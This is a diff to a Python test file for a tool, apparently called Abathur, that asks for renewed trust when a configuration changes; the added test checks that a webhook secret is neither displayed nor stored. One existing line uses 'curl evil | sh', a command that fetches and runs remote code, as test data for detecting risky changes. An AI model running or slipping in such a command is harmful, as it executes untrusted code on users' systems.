@@ -57,6 +57,18 @@ def test_a_changed_file_asks_again_and_shows_what_is_different(clone: Abathur) -
     assert (asked.added, len(asked.removed)) == (("verify: curl evil | sh",), 1)
 
 
+def test_secrets_of_a_file_are_neither_shown_nor_kept(clone: Abathur, tmp_path: Path) -> None:
+    secret = "https://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx"
+    configure(clone, verify="true", notices={"webhook": secret})
+    clone.ok("trust", "--yes")
+    told = clone.ok("trust", "--show", "--json")
+    kept = [file.read_text() for file in (tmp_path / "state").rglob("*") if file.is_file()]
+    assert "hooks.slack.com/" in told and kept
+    assert "abcdefghijkl" not in told + "".join(kept)
+    configure(clone, verify="true", notices={"webhook": f"{secret}2"})
+    assert clone("trust", "--show").code == 1
+
+
 def test_trust_can_be_taken_back(clone: Abathur) -> None:
     clone.ok("trust", "--yes")
     clone.ok("trust", "--revoke")
